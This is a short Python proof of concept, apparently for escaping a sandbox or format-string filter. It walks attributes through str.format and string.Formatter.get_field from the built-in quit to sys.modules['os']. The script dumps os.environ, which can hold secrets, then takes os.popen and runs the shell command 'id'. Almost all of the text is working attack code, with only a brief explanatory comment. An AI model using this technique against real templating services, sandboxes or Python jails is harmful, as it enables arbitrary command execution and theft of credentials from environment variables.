# str.format field syntax can walk attributes and keys; string.Formatter's
# get_field returns the resolved object itself, so the walk ends in a
# callable os.popen taken from quit.__init__.__globals__['sys'].modules.
from string import Formatter

path = '%d.%s.%s[%s].modules[%s].%s' % (0, '__init__', '__globals__',
                                        'sys', 'os', 'popen')
leak = '{0.__init__.__globals__[sys].modules[os].environ}'.format(quit)
opener, _ = Formatter().get_field(path, (quit,), {})
print(len(leak), opener('id').read())
